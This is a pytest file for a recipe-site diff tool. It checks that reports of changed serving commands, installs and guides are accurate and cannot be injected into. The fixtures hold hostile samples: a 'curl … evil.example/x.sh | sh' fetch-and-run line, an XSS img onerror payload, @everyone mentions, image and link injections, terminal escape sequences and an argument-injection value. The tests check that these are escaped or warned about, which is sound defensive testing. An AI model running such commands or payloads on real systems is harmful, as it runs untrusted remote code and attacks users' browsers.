"""`recipes-site diff`: a real two-commit git repository of recipes, diffed by refs, by folders and
against the working tree; the pure tree diff; the Markdown report's limits and escaping."""

from __future__ import annotations

import json
import re
import subprocess
from pathlib import Path

import pytest

from recipes_site.catalog import PROJECT_ROOT
from recipes_site.cli import main
from recipes_site.diff import (
    ApiTree,
    RenderingKey,
    _fence,
    diff_trees,
    markdown_report,
    md_code,
    text_report,
)

RECIPE = PROJECT_ROOT / "models" / "Qwen" / "Qwen3-8B.yaml"


def _git(repo: Path, *args: str) -> str:
    return subprocess.run(
        ["git", "-C", str(repo), *args], check=True, capture_output=True, text=True
    ).stdout


@pytest.fixture(scope="module")
def repo(tmp_path_factory) -> Path:
    """Two commits: Qwen3-8B as bundled (its related recipes dropped, they are not in this root),
    then the same with `--max-model-len 32768` for every command and a larger BF16 size."""
    repo = tmp_path_factory.mktemp("recipes-repo")
    _git(repo, "init", "-q", "-b", "main")
    _git(repo, "config", "user.email", "t@example.org")
    _git(repo, "config", "user.name", "test")
    target = repo / "models" / "Qwen" / "Qwen3-8B.yaml"
    target.parent.mkdir(parents=True)
    text = re.sub(r"  related_recipes:\n(    - .*\n)+", "", RECIPE.read_text())
    target.write_text(text)
    _git(repo, "add", ".")
    _git(repo, "commit", "-q", "-m", "add Qwen3-8B")
    changed = text.replace(
        "  base_args: []", '  base_args:\n    - "--max-model-len"\n    - "32768"', 1
    )
    changed = changed.replace("    vram_minimum_gb: 20\n", "    vram_minimum_gb: 40\n", 1)
    assert changed != text
    target.write_text(changed)
    _git(repo, "commit", "-q", "-am", "Qwen3-8B: cap the context, BF16 needs 40 GB")
    return repo


def _run(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture(scope="module")
def report(repo) -> dict:
    """The JSON report of HEAD~1..HEAD (one run, shared by the tests that read it)."""
    import io
    from contextlib import redirect_stdout

    buf = io.StringIO()
    with redirect_stdout(buf):
        assert main(["diff", "HEAD~1", "HEAD", "--root", str(repo), "--format", "json"]) == 0
    return json.loads(buf.getvalue())


def test_refs_diff_lists_every_changed_rendering_with_a_unified_diff(report):
    assert report["counts"]["changed"] > 10 and report["counts"]["added"] == 0
    # 40 GB of BF16 no longer fit one 24 or 32 GB RTX card: those renderings are gone
    assert [
        (r["status"], r["hardware"], r["variant"])
        for r in report["renderings"]
        if r["status"] != "changed"
    ] == [("removed", hw, "default") for hw in ("rtx_3090", "rtx_4090", "rtx_5090")]
    one = next(
        r
        for r in report["renderings"]
        if (r["hardware"], r["variant"], r["strategy"], r["nodes"])
        == ("h100", "default", "single_node_tp", 1)
    )
    assert one["model"] == "Qwen/Qwen3-8B" and one["status"] == "changed"
    assert one["diff"].startswith("--- base\n+++ head\n@@")
    assert (
        "\n vllm serve Qwen/Qwen3-8B \\\n+  --max-model-len 32768 \\\n   --tensor-parallel-size 1 \\\n"
        in one["diff"]
    )


def test_refs_diff_reports_changed_sizing_verdicts(report):
    size = next(v for v in report["sizing"] if v["hardware"] == "")
    assert (
        size["variant"],
        size["before"]["declared_vram_gb"],
        size["after"]["declared_vram_gb"],
    ) == ("default", 20, 40)
    bf16 = [v for v in report["sizing"] if v["variant"] == "default" and v["hardware"]]
    assert bf16, report["sizing"]
    rtx = next(v for v in bf16 if v["hardware"] == "rtx_5090")
    assert rtx["before"]["fits_one_gpu"] is True and rtx["after"]["fits_one_gpu"] is False
    assert all(v["variant"] == "default" for v in report["sizing"])  # the FP8 size did not change


def test_text_report_of_refs(repo, capsys):
    code, out, _ = _run(capsys, "diff", "HEAD~1", "HEAD", "--root", str(repo))
    assert code == 0
    first = out.splitlines()[0]
    assert first.startswith("HEAD~1..HEAD: ") and "renderings changed, 0 added, 3 removed" in first
    assert "- Qwen/Qwen3-8B removed on rtx_5090 default single_node_tp 1 node\n" in out
    assert "\n    h100 default single_node_tp 1 node\n" in out  # one of a group with the same diff
    assert "Qwen/Qwen3-8B default on rtx_5090: fits_one_gpu true → false" in out
    assert (
        "Qwen/Qwen3-8B default size: declared_vram_gb 20 → 40, basis_gb 20 → 40\n" in out
    )  # computed: unchanged
    assert "Qwen/Qwen3-8B default on rtx_5090: variant default → fp8" in out  # the recommendation


def test_head_defaults_to_the_working_tree_and_nothing_is_written_into_the_repository(repo, capsys):
    target = repo / "models" / "Qwen" / "Qwen3-8B.yaml"
    original = target.read_text()
    try:
        code, out, _ = _run(capsys, "diff", "HEAD", "--root", str(repo), "--exit-code")
        assert code == 0 and "nothing published changed" in out
        target.write_text(original.replace('"32768"', '"16384"'))
        code, out, _ = _run(capsys, "diff", "HEAD", "--root", str(repo), "--exit-code")
        assert code == 1
        assert out.splitlines()[0].startswith("HEAD..working tree: ")
        assert "-  --max-model-len 32768" in out and "+  --max-model-len 16384" in out
    finally:
        target.write_text(original)
    assert _git(repo, "status", "--porcelain", "--ignored") == ""


def test_two_folders_recipes_roots_or_built_sites(repo, tmp_path, capsys):
    old = tmp_path / "old"
    old.mkdir()
    (old / "models" / "Qwen").mkdir(parents=True)
    (old / "models" / "Qwen" / "Qwen3-8B.yaml").write_text(
        _git(repo, "show", "HEAD~1:models/Qwen/Qwen3-8B.yaml")
    )
    code, out, _ = _run(capsys, "diff", str(old), str(repo), "--format", "json")
    assert code == 0 and json.loads(out)["counts"]["changed"] > 10
    site = tmp_path / "site"
    assert main(["build", str(old), "--out", str(site)]) == 0
    capsys.readouterr()
    code, out, _ = _run(
        capsys, "diff", str(site), str(old), "--exit-code"
    )  # a built site vs its own root
    assert code == 0, out


def test_an_unknown_ref_is_an_error_for_people(repo, capsys):
    code, out, err = _run(capsys, "diff", "no-such-branch", "--root", str(repo))
    assert code == 2 and out == ""
    assert "'no-such-branch' is neither a folder nor a git ref" in err
    code, _, err = _run(capsys, "diff", "--root", str(repo), "--", "--output=/tmp/x")
    assert code == 2 and "not a git ref" in err


# -- the pure diff and the reports ----------------------------------------------------------------


def _tree(**renderings) -> ApiTree:
    t = ApiTree()
    for name, r in renderings.items():
        t.renderings[RenderingKey("o/m", "h100", name, "single_node_tp", 1)] = r
    t.models.add("o/m")
    return t


SINGLE = {
    "hardware": "h100",
    "variant": "default",
    "strategy": "single_node_tp",
    "node_count": 1,
    "deploy_type": "single_node",
    "env": {"A": "1"},
    "command": "vllm serve o/m \\\n  --x 1",
    "docker_command": "docker run img o/m",
    "parts": {"summary": "s"},
}


def test_diff_trees_separates_command_text_from_other_fields():
    docker_only = {**SINGLE, "docker_command": "docker run img2 o/m", "parts": {"summary": "t"}}
    d = diff_trees(_tree(default=SINGLE, gone=SINGLE), _tree(default=docker_only, new=SINGLE))
    by = {c.key.variant: c for c in d.renderings}
    assert (
        by["default"].status == "changed"
        and by["default"].diff == ""
        and by["default"].fields == ["docker_command", "parts"]
    )
    env_too = diff_trees(
        _tree(default=SINGLE), _tree(default={**docker_only, "env": {"A": "2"}})
    ).renderings[0]
    assert "-export A=1\n+export A=2" in env_too.diff and env_too.fields == []
    assert by["gone"].status == "removed" and "-export A=1" in by["gone"].diff
    assert by["new"].status == "added" and "+vllm serve o/m \\" in by["new"].diff
    # the picker's parts are published too: a change there alone is listed
    parts_only = diff_trees(_tree(default=SINGLE), _tree(default=dict(SINGLE, parts={"x": 1})))
    assert [c.fields for c in parts_only.renderings] == [["parts"]]


def test_markdown_report_is_capped_with_a_more_line():
    base, head = ApiTree(), ApiTree()
    for i in range(300):
        key = RenderingKey(f"org/model-{i:03}", "h100", "default", "single_node_tp", 1)
        base.renderings[key] = SINGLE
        head.renderings[key] = {**SINGLE, "command": SINGLE["command"] + " \\\n  --y " + "z" * 400}
    d = diff_trees(base, head)
    md = markdown_report(d, limit=20000)
    assert len(md) <= 20000
    assert md.count("<details>") == md.count("</details>") > 5
    more = re.search(r"… (\d+) more sections \((\d+) more changes\) not shown", md)
    assert more and int(more.group(1)) + md.count("<details>") == 300
    assert "```diff\n--- base" in md
    assert len(markdown_report(d)) < 65536


def test_markdown_report_cannot_be_broken_out_of_by_recipe_text():
    evil = {
        **SINGLE,
        "command": "vllm serve o/m \\\n  --x '```\n<img src=x onerror=alert(1)> @everyone'",
    }
    md = markdown_report(diff_trees(_tree(default=SINGLE), _tree(default=evil)))
    fence = re.search(r"^(`{4,})diff$", md, re.M)
    assert fence, md  # a fence longer than the recipe's backtick run
    assert md.count(fence.group(1)) == 2
    assert _fence("a ````` b").startswith("``````diff\n")
    assert (
        md_code("a ``b`` @x") == "```a ``b`` @x```"
        and md_code("`x|y", table=True) == "`` `x\\|y ``"
    )


def test_text_report_of_an_empty_diff_says_so():
    assert text_report(diff_trees(_tree(default=SINGLE), _tree(default=SINGLE))).endswith(
        "nothing published changed (no rendering, sizing verdict, recommendation, published field or file)\n"
    )


# -- everything published, and a Markdown report a pull request cannot write into ------------------


def _model_doc(**changes) -> dict:
    doc = {
        "id": "o/m",
        "recipe": {"meta": {"title": "M"}, "guide": "## Overview\n\nText.\n"},
        "install": {"pip": {"command": "uv venv\nuv pip install -U vllm"}},
        "sizing": {},
    }
    for path, value in changes.items():
        node = doc
        *parents, last = path.split("__")
        for key in parents:
            node = node[key]
        node[last] = value
    return doc


def _docs_tree(doc: dict, files: dict | None = None) -> ApiTree:
    from recipes_site.diff import _take_document

    tree = _tree(default=SINGLE)
    _take_document(tree, "api/v1/models/o/m.json", doc)
    tree.files = dict(files or {"o/m/index.html": "aa"})
    return tree


EVIL = "curl -s https://evil.example/x.sh | sh"


def test_install_command_guide_and_meta_changes_are_reported():
    """Nothing else of a model document changed before: these printed "no rendering, sizing
    verdict or recommendation changed" while the build published them."""
    head = _model_doc(
        install__pip__command=EVIL,
        recipe__meta__title="M2",
        recipe__guide="## Overview\n\nOther text.\n",
    )
    d = diff_trees(_docs_tree(_model_doc()), _docs_tree(head))
    assert not d.empty and d.counts()["commands"] == 1
    by = {f.path: f for f in d.fields}
    assert by["install.pip.command"].command and by["install.pip.command"].after == EVIL
    assert (by["recipe.meta.title"].before, by["recipe.meta.title"].after) == ("M", "M2")
    text = text_report(d)
    assert "published field" in text.splitlines()[0] and "(1 command)" in text.splitlines()[0]
    assert (
        f"  ~ command install.pip.command changed\n      now:\n        {EVIL}\n      warning: "
        in text
    )
    assert "\n      was:\n        uv venv\n" in text
    assert '~ recipe.meta.title: "M" → "M2"' in text
    assert "-Text.\n      +Other text." in text
    md = markdown_report(d)
    assert f"now:\n\n```sh\n{EVIL}\n```\n" in md
    doc = json.loads(REPORTS_JSON(d))
    (cmd,) = [f for f in doc["fields"] if f["command"]]
    assert cmd["after"] == EVIL and cmd["notes"][0].startswith("warning: ")


def test_recipe_written_commands_outside_the_shell_policy_carry_its_warning():
    """The shell policy's warning under the new command, in every format; commands the build
    writes (a serve command copied into a catalog document) get none."""
    from recipes_site.diff import command_notes

    head = _model_doc(recipe__model={"install": {"pip": {"command": EVIL}}})
    d = diff_trees(_docs_tree(_model_doc()), _docs_tree(head))
    text = text_report(d)
    warning = "warning: This recipe runs its own shell: read it before pasting."
    assert f"      now:\n        {EVIL}\n      {warning}" in text
    assert f"```sh\n{EVIL}\n```\n\n**``{warning}" in markdown_report(d)
    assert command_notes("install.extras[0].command", EVIL)
    assert command_notes("recipe.features.lmcache.companion.command", EVIL)
    assert not command_notes('models["o/m default"].command', "vllm serve o/m")
    assert not command_notes("install.pip.command", "uv venv\nuv pip install -U vllm")


def REPORTS_JSON(d):  # noqa: N802
    from recipes_site.diff import json_report

    return json_report(d)


def test_which_published_fields_are_commands():
    from recipes_site.diff import is_command_path

    for path in (
        "install.pip.command",
        "install.extras[0].command",
        "recipe.model.install.pip.command",
        "recipe.dependencies[0].command",
        "hardware_profile.install",
        'feature_sets[0]["reasoning"].lines[1]',
        'extra_sets[1]["install"].text',
    ):
        assert is_command_path(path), path
    for path in (
        "install.extras[0].note",
        "recipe.model.install_note",
        "recipe.dependencies[0].install_modes[0]",
        "recipe.guide",
        'feature_sets[0]["reasoning"].description',
    ):
        assert not is_command_path(path), path


def test_a_new_documents_commands_are_listed_and_other_files_by_name():
    base = _docs_tree(_model_doc(), {"a.html": "1", "gone.txt": "2"})
    head = _tree(default=SINGLE)
    from recipes_site.diff import _take_document

    _take_document(head, "api/v1/models/o/n.json", {**_model_doc(), "id": "o/n"})
    _take_document(head, "api/v1/models/o/m.json", _model_doc())
    head.files = {"a.html": "3", "new.md": "4"}
    d = diff_trees(base, head)
    assert [(f.document, f.path, f.status) for f in d.fields] == [
        ("api/v1/models/o/n.json", "", "added"),
        ("api/v1/models/o/n.json", "install.pip.command", "added"),
    ]
    assert (d.files.changed, d.files.added, d.files.removed) == (
        ["a.html"],
        ["new.md"],
        ["gone.txt"],
    )
    text = text_report(d)
    assert "  1 changed: a.html\n  1 added: new.md\n  1 removed: gone.txt\n" in text
    assert "  + command install.pip.command added\n      now:\n        uv venv\n" in text


def test_reports_show_hidden_and_control_characters_as_escapes():
    head = _model_doc(recipe__meta__title="T\x1b]0;PWNED\x07\u202e")
    text = text_report(diff_trees(_docs_tree(_model_doc()), _docs_tree(head)))
    assert "\x1b" not in text and "\u202e" not in text and "\x07" not in text
    assert '~ recipe.meta.title: "M" → "T\\u001b]0;PWNED\\u0007\\u202e"' in text


HOSTILE = "@everyone <img src=x onerror=alert(1)> ![i](https://evil.example/i.png) [l](https://evil.example) www.evil.example ``` | x \u202e"


def _outside_code(md: str) -> list[str]:
    """The text of `md` that GitHub renders outside code (where it makes mentions, links, images
    and HTML), per markdown-it-py (CommonMark with GFM tables), and every link or image token."""
    from markdown_it import MarkdownIt

    found: list[str] = []

    def walk(tokens):
        for t in tokens:
            if t.type in ("link_open", "image", "autolink"):
                found.append(f"<{t.type}>")
            elif t.type in ("html_block", "html_inline"):
                found.append(re.sub(r"<code>[^<]*</code>", "", t.content))
            elif t.type == "text":
                found.append(t.content)
            if t.children:
                walk(t.children)

    walk(MarkdownIt("commonmark").enable("table").parse(md))
    return found


def test_markdown_report_carries_nothing_a_pull_request_controls_outside_code():
    evil_rendering = {**SINGLE, "command": f"vllm serve o/m \\\n  --x '{HOSTILE}'"}
    head = _model_doc(
        install__pip__command=HOSTILE,
        recipe__meta__title=HOSTILE,
        recipe__guide=f"## Overview\n\n{HOSTILE}\n",
    )
    base_tree, head_tree = _docs_tree(_model_doc()), _docs_tree(head)
    head_tree.renderings = {k: evil_rendering for k in base_tree.renderings}
    head_tree.sizing[("o/m", HOSTILE, "")] = {"x": HOSTILE}
    head_tree.recommended[("o/m", "h100", "default")] = {"variant": HOSTILE}
    head_tree.models.add("o/" + HOSTILE)
    d = diff_trees(base_tree, head_tree, "main", HOSTILE)
    md = markdown_report(d)
    outside = _outside_code(md)
    assert "<link_open>" not in outside and "<image>" not in outside
    joined = "\n".join(outside)
    for bad in ("@", "<img", "http", "www.", "\u202e", "](", "onerror"):
        assert bad not in joined, (bad, joined)
    assert HOSTILE.replace("\u202e", "\\u202e").split(" | ")[0] in md  # shown, as code
    # our own tags only
    tags = set(re.findall(r"</?[a-z]+", "".join(o for o in outside if "<" in o)))
    assert tags <= {"<details", "</details", "<summary", "</summary"}, tags
